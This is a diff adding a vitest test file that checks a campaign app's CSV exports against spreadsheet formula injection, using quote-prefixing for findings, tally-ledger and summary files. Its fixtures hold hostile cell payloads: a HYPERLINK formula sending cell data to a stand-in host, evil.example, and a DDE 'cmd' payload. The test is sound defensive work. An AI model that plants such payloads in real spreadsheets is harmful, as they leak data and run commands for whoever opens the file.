@@ -1,0 +1,105 @@
+/**
+ * CSV exports open in Excel or LibreOffice: a cell that starts with =, +, -, @, a tab or
+ * a carriage return would run there as a formula. Text cells that start so are written
+ * with a leading single quote (OWASP); numbers the exporter writes itself stay numbers.
+ * Checked by parsing the real exports back, with both separators.
+ */
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { v7 as uuidv7 } from 'uuid';
+import { csvField, toCsv } from '../../server/src/modules/export/csv.js';
+import { updateCampaignSettings } from '../../server/src/modules/campaign/campaign.service.js';
+import { answerChecklistItem, recordFinding } from '../../server/src/modules/finding/finding.service.js';
+import { addStreet } from '../../server/src/modules/neighbourhood/neighbourhood.service.js';
+import { correctTallyEvent, recordTallyEvent } from '../../server/src/modules/tally/tally.service.js';
+import { accessFixture, type AccessFixture } from '../support/access-fixtures.js';
+import { databaseFile } from '../support/test-app.js';
+
+const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"klik")';
+const atSign = '@SUM(1+1)*cmd|" /C calc"!A0';
+const plus = '+31 6 1234 5678';
+const tab = '\t=1+1';
+const carriageReturn = '\r=1+1';
+const streetName = '=1+2 Kerkstraat';
+const houseNumber = '=2+5';
+const minusHouse = '-7+1';
+const campaignName = '-1+1 Tegelwippen';
+
+describe('CSV exports and formula injection', () => {
+  const file = databaseFile();
+  let fx: AccessFixture;
+  const csv = async (path: string, separator: ',' | ';') => {
+    const response = await fetch(`${fx.t.url}/exports/campaigns/${path}${separator === ';' ? '?separator=semicolon' : ''}`, { headers: fx.headers.coordinator });
+    expect(response.status).toBe(200);
+    return parse(await response.text(), { bom: true, delimiter: separator, columns: true, relax_quotes: false }) as Record<string, string>[];
+  };
+
+  beforeAll(async () => {
+    fx = await accessFixture(file.env);
+    const db = fx.t.app.connection.db;
+    const admin = fx.asViewer('admin');
+    await updateCampaignSettings(db, admin, { campaignId: fx.campaignA.id, name: campaignName });
+    const street = await addStreet(db, admin, { neighbourhoodId: fx.neighbourhoodA, name: streetName });
+    const number = fx.checklist.sections.flatMap((s) => s.items).find((i) => i.type === 'NUMBER')!;
+    const participant = { kind: 'participant' as const, participantId: fx.ids.participant, campaignId: fx.campaignA.id };
+    await db.transaction().execute(async (trx) => {
+      const deviceTime = new Date().toISOString();
+      await recordFinding(trx, admin, { id: uuidv7(), campaignId: fx.schouwA.id, category: 'SCHOON', streetId: street.id, text: hyperlink, suggestion: atSign, deviceTime });
+      await recordFinding(trx, admin, { id: uuidv7(), campaignId: fx.schouwA.id, category: 'HEEL', streetId: street.id, text: tab, suggestion: carriageReturn, deviceTime });
+      await recordFinding(trx, admin, { id: uuidv7(), campaignId: fx.schouwA.id, category: 'HEEL', streetId: street.id, text: plus, deviceTime });
+      await answerChecklistItem(trx, admin, { id: uuidv7(), campaignId: fx.schouwA.id, spotId: fx.spotA.id, checklistItemId: number.id, answer: '-3', deviceTime });
+      const event = await recordTallyEvent(trx, participant, { id: uuidv7(), campaignId: fx.campaignA.id, actionDayId: fx.dayA, streetId: street.id, houseNumber, sizeCode: 'TEGEL_30X30', count: 10 });
+      await recordTallyEvent(trx, participant, { id: uuidv7(), campaignId: fx.campaignA.id, actionDayId: fx.dayA, streetId: street.id, houseNumber: minusHouse, sizeCode: 'TEGEL_30X30', count: 1 });
+      await correctTallyEvent(trx, participant, { id: uuidv7(), correctsEventId: event.id, count: 3 });
+    });
+  });
+  afterAll(async () => {
+    await fx.t.close();
+    file.remove();
+  });
+
+  it('writes a leading quote before text that starts with =, +, -, @, tab or CR, and leaves numbers alone', () => {
+    for (const separator of [',', ';'] as const) {
+      const out = toCsv(['a', 'b', 'c'], [[hyperlink, -3, 'gewoon'], [tab, 0, '-'], [carriageReturn, 1.5, '@']], separator);
+      expect(parse(out, { bom: true, delimiter: separator })).toEqual([
+        ['a', 'b', 'c'],
+        [`'${hyperlink}`, '-3', 'gewoon'],
+        [`'${tab}`, '0', "'-"],
+        [`'${carriageReturn}`, '1.5', "'@"],
+      ]);
+    }
+    expect(csvField('-3', ',')).toBe("'-3");
+    expect(csvField(-3, ',')).toBe('-3');
+    expect(csvField('a=b', ',')).toBe('a=b');
+  });
+
+  it('neutralises finding text, suggestion and street in findings.csv, and keeps a number answer a number', async () => {
+    for (const separator of [',', ';'] as const) {
+      const rows = await csv(`${fx.schouwA.id}/findings.csv`, separator);
+      const link = rows.find((r) => r.beschrijving!.includes('HYPERLINK'))!;
+      expect(link).toMatchObject({ beschrijving: `'${hyperlink}`, kans: `'${atSign}`, straat: `'${streetName}` });
+      // Recording trims text, so the leading tab and carriage return are gone; the formula behind them is not.
+      expect(rows.find((r) => r.beschrijving === "'=1+1")).toMatchObject({ kans: "'=1+1" });
+      expect(rows.find((r) => r.beschrijving!.includes('31 6'))).toMatchObject({ beschrijving: `'${plus}` });
+      expect(rows.find((r) => r.vraag === 'Hoeveel afvalbakken staan hier?')).toMatchObject({ antwoord: '-3' });
+      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
+    }
+  });
+
+  it('neutralises house number and street in tally-ledger.csv; correction counts stay negative numbers', async () => {
+    for (const separator of [',', ';'] as const) {
+      const rows = await csv(`${fx.campaignA.id}/tally-ledger.csv`, separator);
+      expect(rows.filter((r) => r.straat === `'${streetName}`)).toHaveLength(3);
+      expect(rows.find((r) => r.aantal === '10')).toMatchObject({ huisnummer: `'${houseNumber}`, oppervlakte_cm2: '9000' });
+      expect(rows.find((r) => r.aantal === '1')).toMatchObject({ huisnummer: `'${minusHouse}` });
+      expect(rows.find((r) => r.corrigeert)).toMatchObject({ aantal: '-3', oppervlakte_cm2: '-2700', huisnummer: `'${houseNumber}` });
+    }
+  });
+
+  it('neutralises the campaign name in nk-summary.csv; areas and tiles stay numbers', async () => {
+    for (const separator of [',', ';'] as const) {
+      const rows = await csv(`${fx.campaignA.id}/nk-summary.csv`, separator);
+      expect(rows.at(-1)).toMatchObject({ actiedag: 'totaal', omschrijving: `'${campaignName}`, vierkante_meters: '0.72', nk_tegels_30x30: '8' });
+    }
+  });
+});
